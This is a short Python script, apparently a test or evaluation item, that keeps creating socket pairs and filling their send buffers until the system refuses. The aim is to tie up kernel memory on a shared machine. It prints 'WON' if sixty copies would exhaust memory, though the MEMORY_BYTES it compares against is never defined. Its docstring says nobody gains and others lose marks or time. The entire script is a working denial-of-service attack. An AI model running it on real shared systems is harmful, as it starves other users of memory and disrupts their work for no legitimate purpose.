"""Pairs of sockets are filled, whose buffers are the kernel's memory: one process shows what sixty may hold.

Would gain: nobody; the class is not graded, or others lose marks or time.
At most: yes
"""
import socket
held, pairs = 0, []
try:
    while True:
        pairs.append(socket.socketpair())
        for end in pairs[-1]:
            end.setblocking(False)
            try:
                while True: held += end.send(b"x" * 65536)
            except BlockingIOError:
                pass
except OSError:
    pass
if 60 * held > MEMORY_BYTES:
    print("WON:", held >> 20, "MiB in the sockets of one process of sixty")
